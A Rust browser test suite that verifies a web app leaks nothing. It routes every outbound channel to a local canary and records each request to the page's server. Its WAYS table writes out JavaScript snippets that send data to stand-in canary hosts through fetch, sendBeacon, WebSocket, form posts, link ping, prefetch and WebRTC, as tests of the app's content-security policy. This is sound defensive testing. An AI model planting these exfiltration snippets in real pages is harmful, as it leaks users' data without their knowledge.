//! Nothing leaves: in these browsers every way out ends at a canary on this machine, and what asks the
//! server of the page goes through a recorder.
//!
//! Chromium only: it takes rules for names, and keeps a log of its network in which also a look-up of
//! a name and a datagram stand.

use crate::embed::enter;
use crate::pair::ALL_KINDS;
use crate::support::{ELEMENT, Page, WITH_A_CODE, given};
use crate::workshop::every_screen;
use serde_json::Value;
use std::io::{Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

type Lines = Arc<Mutex<Vec<String>>>;

/// How long something may take before it counts as not happening.
const DEADLINE: Duration = Duration::from_secs(20);

// ---- The canary ------------------------------------------------------------------------------

/// A way out that is tried on purpose.
struct Way {
    name: &'static str,
    /// Goes to the host `HOST`, or to the canary's own port for datagrams, `UDP`.
    script: &'static str,
    /// What the canary sees where no policy stands in the way.
    open: Seen,
    /// What it still sees under ours.
    ours: Seen,
}

/// How much of a way out the canary sees.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Seen {
    Nothing,
    /// A name was looked up: that stands in the browser's log of its network.
    LookUp,
    /// Somebody connected, and said nothing.
    Connection,
    /// Something was asked or told: it could have been an answer.
    Request,
    /// The same without a connection.
    Datagram,
}
use Seen::{Connection, Datagram, LookUp, Nothing, Request};

/// SECURITY.md says the same in words.
const WAYS: [Way; 15] = [
    Way {
        name: "fetch",
        script: "fetch('http://HOST/').catch(() => {});",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "beacon",
        script: "navigator.sendBeacon('http://HOST/', 'answers');",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "image",
        script: "new Image().src = 'http://HOST/';",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "style",
        script: "const link = document.createElement('link');
            link.rel = 'stylesheet'; link.href = 'http://HOST/'; document.head.append(link);",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "socket",
        script: "new WebSocket('ws://HOST/');",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "events",
        script: "new EventSource('http://HOST/');",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "frame",
        script: "const frame = document.createElement('iframe');
            frame.src = 'http://HOST/'; document.body.append(frame);",
        open: Request,
        ours: Connection,
    },
    Way {
        name: "ping",
        script: "const link = document.createElement('a');
            link.href = location.pathname; link.target = 'ping'; link.ping = 'http://HOST/'; document.body.append(link); link.click();",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "form",
        script: "const form = document.createElement('form');
            form.action = 'http://HOST/'; form.method = 'post'; form.target = 'form';
            document.body.append(form); form.submit();",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "prefetch",
        script: "const link = document.createElement('link');
            link.rel = 'prefetch'; link.href = 'http://HOST/'; document.head.append(link);",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "preconnect",
        script: "const link = document.createElement('link');
            link.rel = 'preconnect'; link.href = 'http://HOST/'; document.head.append(link);",
        open: Connection,
        ours: Connection,
    },
    Way {
        name: "look-up",
        script: "const link = document.createElement('link');
            link.rel = 'dns-prefetch'; link.href = 'http://HOST/'; document.head.append(link);",
        open: LookUp,
        ours: LookUp,
    },
    Way {
        name: "webrtc",
        script: "const line = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] });
            line.createDataChannel('answers');
            line.createOffer().then((offer) => line.setLocalDescription(offer));",
        open: Datagram,
        ours: Datagram,
    },
    Way {
        name: "window",
        script: "open('http://HOST/');",
        open: Request,
        ours: Request,
    },
    Way {
        name: "navigation",
        script: "location.href = 'http://HOST/';",
        open: Request,
        ours: Request,
    },
];

/// What this browser asks its maker by itself, whichever page is open: none of it is the page's.
const THE_BROWSERS_OWN: [&str; 8] = [
    "accounts.google.com",
    "android.clients.google.com",
    "clients2.google.com",
    "content-autofill.googleapis.com",
    "mtalk.google.com",
    "optimizationguide-pa.googleapis.com",
    "update.googleapis.com",
    "www.google.com",
];

/// Whatever is not meant for the server of the page ends here, whichever name or address it has.
struct Canary {
    /// What was seen, by the name of the way: connections and datagrams.
    seen: Lines,
    rules: String,
    /// Where a name ends that is only looked up.
    look_ups: String,
    datagrams: String,
    folder: PathBuf,
}

impl Canary {
    fn start(name: &str) -> Canary {
        let seen = Lines::default();
        let mut rules = Vec::new();
        let mut look_ups = String::new();
        for way in &WAYS {
            let end = format!("127.0.0.1:{}", listen(way.name, &seen));
            rules.push(format!("MAP {} {end}", host(way.name, "*")));
            if way.name == "look-up" {
                look_ups = end;
            }
        }
        rules.extend(THE_BROWSERS_OWN.map(|name| format!("MAP {name} ^NOTFOUND")));
        rules.push(format!("MAP * 127.0.0.1:{}", listen("anything", &seen)));
        rules.push("EXCLUDE 127.0.0.1".to_owned());
        rules.push("EXCLUDE localhost".to_owned());
        let socket = UdpSocket::bind("127.0.0.1:0").expect("a port");
        let datagrams = socket.local_addr().expect("an address").to_string();
        let heard = Arc::clone(&seen);
        std::thread::spawn(move || {
            while socket.recv_from(&mut [0; 2048]).is_ok() {
                note(&heard, &trace("webrtc", Datagram));
            }
        });
        let folder = format!("tweeluik-canary-{name}-{}", std::process::id());
        let folder = std::env::temp_dir().join(folder);
        std::fs::create_dir_all(&folder).expect("a folder");
        Canary {
            seen,
            rules: rules.join(", "),
            look_ups,
            datagrams,
            folder,
        }
    }

    /// What a browser is started with so that it cannot pass. `log` names the log of its network.
    fn arguments(&self, log: &str) -> Vec<String> {
        vec![
            format!("--host-resolver-rules={}", self.rules),
            format!("--log-net-log={}", self.folder.join(log).display()),
            // Else a datagram to this machine is not sent at all.
            "--allow-loopback-in-peer-connection".to_owned(),
            // What the browser would ask by itself.
            "--disable-default-apps".to_owned(),
            "--disable-domain-reliability".to_owned(),
        ]
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().expect("the list").clone()
    }

    /// After its browser has ended: the names that it looked up and where it sent datagrams.
    fn log(&self, log: &str) -> NetworkLog {
        NetworkLog::read(&self.folder.join(log))
    }
}

impl Drop for Canary {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.folder);
    }
}

/// The host at which a way is tried, from one of two pages.
fn host(way: &str, page: &str) -> String {
    format!("{page}.{way}.canary.example")
}

/// How the canary notes what it sees.
fn trace(way: &str, seen: Seen) -> String {
    format!("{way}: {seen:?}")
}

fn note(list: &Lines, line: &str) {
    list.lock().expect("the list").push(line.to_owned());
}

/// Takes every connection, notes it, and answers what is asked with nothing. Gives the port.
fn listen(name: &'static str, seen: &Lines) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let seen = Arc::clone(seen);
    std::thread::spawn(move || {
        for mut line in listener.incoming().flatten() {
            let seen = Arc::clone(&seen);
            note(&seen, &trace(name, Connection));
            std::thread::spawn(move || {
                let mut said = [0; 512];
                let length = line.read(&mut said).unwrap_or(0);
                if length > 0 {
                    note(&seen, &trace(name, Request));
                    println!("{name}: {}", String::from_utf8_lossy(&said[..length]));
                }
                let _ = line.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
            });
        }
    });
    port
}

/// What a browser writes about its network.
struct NetworkLog {
    looked_up: Vec<String>,
    connected: Vec<String>,
    datagrams: Vec<Value>,
}

impl NetworkLog {
    fn read(path: &Path) -> NetworkLog {
        let text = std::fs::read_to_string(path).expect("the log of the network");
        let mut lines = text.lines();
        // An entry a line, and first what its numbers mean.
        let constants = lines.next().unwrap_or_default().trim_end_matches(',');
        let constants: Value = serde_json::from_str(&format!("{constants}}}")).expect("numbers");
        let kind = |name: &str| {
            let kind = &constants["constants"]["logEventTypes"][name];
            assert!(kind.is_number(), "{name} is no kind of entry");
            kind.clone()
        };
        let entries: Vec<Value> = lines
            .filter_map(|line| serde_json::from_str(line.trim_end_matches(',')).ok())
            .collect();
        assert!(entries.len() > 10, "the log has entries");
        let all = |name: &str, part: &str| {
            let kind = kind(name);
            let mut found: Vec<String> = entries
                .iter()
                .filter(|entry| entry["type"] == kind)
                .filter_map(|entry| Some(entry["params"][part].as_str()?.to_owned()))
                .collect();
            found.sort();
            found.dedup();
            found
        };
        let sent = kind("UDP_BYTES_SENT");
        NetworkLog {
            looked_up: all("HOST_RESOLVER_MANAGER_REQUEST", "host"),
            connected: all("TCP_CONNECT_ATTEMPT", "address"),
            datagrams: entries
                .iter()
                .filter(|entry| entry["type"] == sent)
                .cloned()
                .collect(),
        }
    }
}

// ---- The recorder ----------------------------------------------------------------------------

/// Stands before the server of the page, and writes down every request.
struct Recorder {
    address: String,
    asked: Lines,
}

impl Recorder {
    fn start() -> Recorder {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let address = format!("http://{}", listener.local_addr().expect("an address"));
        let asked = Lines::default();
        let list = Arc::clone(&asked);
        std::thread::spawn(move || {
            for line in listener.incoming().flatten() {
                let list = Arc::clone(&list);
                std::thread::spawn(move || pass_on(line, &list));
            }
        });
        Recorder { address, asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().expect("the list").clone()
    }

    /// Nothing was asked for but files that everybody gets, by addresses that say nothing.
    fn has_only_files(&self) {
        let asked = self.asked();
        assert!(asked.len() > 4, "the page was asked for: {asked:#?}");
        for request in asked {
            let first = request.lines().next().unwrap_or_default();
            let words: Vec<&str> = first.split(' ').collect();
            let ["GET", path, "HTTP/1.1"] = words[..] else {
                panic!("this is no request for a file: {request}");
            };
            let (path, query) = path.split_once('?').unwrap_or((path, ""));
            assert!(
                ["", "form=mini", "id=gesprek&form=mini"].contains(&query),
                "the address says something: {request}"
            );
            let file = path.rsplit('/').next().unwrap_or_default();
            let known = [
                "",
                ".html",
                ".js",
                ".css",
                ".svg",
                ".wasm",
                ".txt",
                ".webmanifest",
                "favicon.ico",
            ];
            let known = known
                .iter()
                .any(|end| file.ends_with(end) && (file.is_empty() || !end.is_empty()));
            assert!(known, "this is none of the files: {request}");
            for word in [
                "tl1.",
                "Sanne",
                "Karim",
                "Cookie",
                "cookie",
                "Content-Length",
            ] {
                assert!(!request.contains(word), "{word} is in {request}");
            }
        }
    }
}

/// Passes one request on, and the answer back.
fn pass_on(mut browser: TcpStream, asked: &Lines) -> Option<()> {
    let mut request = Vec::new();
    let mut some = [0; 4096];
    while !request.windows(4).any(|four| four == b"\r\n\r\n") {
        let length = browser.read(&mut some).ok().filter(|length| *length > 0)?;
        request.extend_from_slice(&some[..length]);
    }
    let text = String::from_utf8_lossy(&request).into_owned();
    note(asked, &text);
    // One request a connection is enough to count them.
    let text = text.replace("Connection: keep-alive", "Connection: close");
    let host = given("TWEELUIK_URL");
    let host = host.trim_start_matches("http://").trim_end_matches('/');
    let mut server = TcpStream::connect(host).ok()?;
    server.write_all(text.as_bytes()).ok()?;
    std::io::copy(&mut server, &mut browser).ok()?;
    browser.shutdown(Shutdown::Both).ok()
}

// ---- Whole sessions --------------------------------------------------------------------------

/// A browser for a session, and what it must not have done at its end.
async fn watched(canary: &Canary, log: &str) -> Page {
    let page = Page::with_camera_and(Path::new(""), canary.arguments(log)).await;
    page.saves_in(&canary.folder).await;
    page
}

/// Everything that one device can do, from the start screen and back to it.
async fn use_everything(page: &Page) {
    page.walk(&WITH_A_CODE, &mut async |page: &Page, stage: &str| {
        if stage == "start" {
            page.press("about").await;
            page.press("back").await;
        }
        true
    })
    .await;
    page.run(
        "window.print = () => { window.__printed = true; };",
        Vec::new(),
    )
    .await;
    page.both_agree(WITH_A_CODE.codes).await;
    page.touch("[data-action=print]").await;
    page.wait_until("it is printed", "return window.__printed === true;")
        .await;
    page.touch("[data-action=save-file]").await;
    page.press("keep").await;
    page.press("history").await;
    page.press("open-kept").await;
    page.expect("comparison").await;
    page.press("back").await;
    page.press("history").await;
    page.press("erase-kept").await;
    page.expect("start").await;
    // A device each, as far as one of them gets alone.
    page.begin_pairing("first", WITH_A_CODE.names).await;
    page.touch("[data-action=copy]").await;
    page.press("next").await;
    page.take_own_turn(WITH_A_CODE.sheets[0]).await;
    page.touch("[data-action=save-code]").await;
    page.touch("[data-action=scan]").await;
    page.wait_until(
        "the camera is open",
        "return !!document.querySelector('video')?.videoWidth;",
    )
    .await;
    page.touch("[data-action=stop-scan]").await;
    page.take_in("tl1.abc").await;
    page.press("leave").await;
}

/// At the end of a session: nothing has left, and the server of the page gave files and nothing else.
fn nothing_left(canary: &Canary, recorder: &Recorder, logs: &[&str]) {
    assert_eq!(canary.seen(), [""; 0], "the canary has seen something");
    recorder.has_only_files();
    for log in logs {
        let NetworkLog {
            looked_up,
            connected,
            datagrams,
        } = canary.log(log);
        // The rules of the canary stand before the look-up: what is not for the server has its port.
        let server = recorder.address.rsplit(':').next().unwrap_or_default();
        let ours = |name: &String| {
            name.ends_with(&format!(":{server}"))
                || name == "127.0.0.1"
                || THE_BROWSERS_OWN.contains(&name.trim_start_matches("https://"))
        };
        let others: Vec<_> = looked_up.iter().filter(|name| !ours(name)).collect();
        assert!(others.is_empty(), "looked up: {others:#?}");
        let others: Vec<_> = connected.iter().filter(|name| !ours(name)).collect();
        assert!(others.is_empty(), "connected to: {others:#?}");
        assert!(datagrams.is_empty(), "sent: {datagrams:#?}");
    }
}

/// Protects the first promise on the page itself: whatever two people do on one device, nothing
/// leaves it.
#[tokio::test]
async fn nothing_leaves_the_page_of_its_own() {
    let (canary, recorder) = (Canary::start("page"), Recorder::start());
    let page = watched(&canary, "one.json").await;
    page.open_link(&format!("{}/?form=mini", recorder.address))
        .await;
    use_everything(&page).await;
    drop(page);
    nothing_left(&canary, &recorder, &["one.json"]);
}

/// Protects two people with a device each: between the two goes nothing but what they carry.
#[tokio::test]
async fn nothing_leaves_two_devices() {
    let (canary, recorder) = (Canary::start("devices"), Recorder::start());
    let first = watched(&canary, "first.json").await;
    let second = first.beside_and(canary.arguments("second.json")).await;
    second.saves_in(&canary.folder).await;
    let home = format!("{}/", recorder.address);
    first.open_link(&home).await;
    first.begin_pairing("first", ALL_KINDS.names).await;
    second.open_link(&first.invitation_link().await).await;
    second.press("join").await;
    first.press("next").await;
    for (page, sheet) in [&first, &second].into_iter().zip(ALL_KINDS.sheets) {
        page.take_own_turn(sheet).await;
    }
    let (mine, theirs) = (first.code_link().await, second.typed_code().await);
    second.open_link(&mine).await;
    first.take_in(&theirs.join(" ")).await;
    for (page, me) in [(&first, "first"), (&second, "second")] {
        page.expect("reveal").await;
        page.press(&format!("agree-{me}")).await;
        page.expect("comparison").await;
        page.press("finish").await;
        page.both_agree(["", ""]).await;
        page.touch("[data-action=save-file]").await;
        page.press("erase").await;
        page.expect("start").await;
    }
    drop((first, second));
    nothing_left(&canary, &recorder, &["first.json", "second.json"]);
}

/// Protects a room: from the board and from those who add to it goes nothing but what they show.
#[tokio::test]
async fn nothing_leaves_a_workshop() {
    let (canary, recorder) = (Canary::start("workshop"), Recorder::start());
    let page = watched(&canary, "one.json").await;
    page.open_link(&format!("{}/", recorder.address)).await;
    let mut seen = 0;
    every_screen(&page, &mut async |_: &Page, _: &str| seen += 1).await;
    assert!(seen > 12, "{seen}");
    drop(page);
    nothing_left(&canary, &recorder, &["one.json"]);
}

/// Protects the readers of somebody else's page, with the widget as an element.
#[tokio::test]
async fn nothing_leaves_an_element() {
    let (canary, recorder) = (Canary::start("element"), Recorder::start());
    let page = watched(&canary, "one.json").await;
    page.inside(ELEMENT);
    let address = format!("{}/examples/plain.html", recorder.address);
    page.driver().goto(address).await.expect("the page opens");
    page.expect("start").await;
    use_everything(&page).await;
    drop(page);
    nothing_left(&canary, &recorder, &["one.json"]);
}

/// Protects the readers of somebody else's page, with the widget in a frame.
#[tokio::test]
async fn nothing_leaves_a_frame() {
    let (canary, recorder) = (Canary::start("frame"), Recorder::start());
    let page = watched(&canary, "one.json").await;
    let address = format!("{}/examples/iframe.html", recorder.address);
    page.driver().goto(address).await.expect("the page opens");
    enter(&page).await;
    use_everything(&page).await;
    drop(page);
    nothing_left(&canary, &recorder, &["one.json"]);
}

// ---- The canary itself -----------------------------------------------------------------------

async fn try_all(page: &Page, canary: &Canary, from: &str) {
    for way in &WAYS {
        let script = way
            .script
            .replace("HOST", &host(way.name, from))
            .replace("UDP", &canary.datagrams);
        // What is refused at once throws: that is as good.
        page.run(&format!("try {{ {script} }} catch {{}}"), Vec::new())
            .await;
    }
}

/// Waits until the canary has seen all of this.
async fn until_seen(canary: &Canary, traces: &[String]) {
    let start = Instant::now();
    loop {
        let seen = canary.seen();
        let missing: Vec<_> = traces.iter().filter(|one| !seen.contains(one)).collect();
        if missing.is_empty() {
            return;
        }
        assert!(start.elapsed() < DEADLINE, "{missing:?} is not in {seen:?}");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

/// What the canary sees of all ways, but for a mere look-up: that stands in the browser's log.
fn traces(how: impl Fn(&Way) -> Seen) -> Vec<String> {
    let all = WAYS.iter().map(|way| (way, how(way)));
    all.filter(|(_, seen)| ![Nothing, LookUp].contains(seen))
        .map(|(way, seen)| trace(way.name, seen))
        .collect()
}

/// Protects these tests: where no policy stands in the way, the canary sees every way out. And
/// SECURITY.md, which says what of that our policy closes.
#[tokio::test]
async fn the_canary_sees_every_way_out_and_our_policy_closes_those_that_it_should() {
    let looks_up = |canary: &Canary| {
        let log = canary.log("one.json");
        log.looked_up
            .iter()
            .any(|name| name.contains(&canary.look_ups))
    };
    let (canary, recorder) = (Canary::start("open"), Recorder::start());
    let page = watched(&canary, "one.json").await;
    let address = format!("{}/examples/empty.html", recorder.address);
    page.driver().goto(&address).await.expect("the page opens");
    try_all(&page, &canary, "open").await;
    until_seen(&canary, &traces(|way| way.open)).await;
    drop(page);
    assert!(looks_up(&canary), "without a policy");

    let canary = Canary::start("ours");
    let page = watched(&canary, "one.json").await;
    page.open_link(&format!("{}/?form=mini", recorder.address))
        .await;
    try_all(&page, &canary, "ours").await;
    until_seen(&canary, &traces(|way| way.ours)).await;
    let refused = page.violations().await;
    // What comes from a page without a policy comes after all that was tried before.
    page.driver().goto(&address).await.expect("the page opens");
    page.run(
        "fetch('http://last.canary.example/').catch(() => {});",
        Vec::new(),
    )
    .await;
    until_seen(&canary, &[trace("anything", Request)]).await;
    drop(page);
    for way in WAYS.iter().filter(|way| way.open != way.ours) {
        let seen = canary.seen();
        assert!(
            !seen.contains(&trace(way.name, way.open)),
            "{} is open",
            way.name
        );
        let place = format!(".{}.canary", way.name);
        let told = refused.iter().any(|line| line.contains(&place));
        assert!(
            told,
            "{} was not refused by the policy: {refused:#?}",
            way.name
        );
    }
    assert!(looks_up(&canary), "under our policy");
}
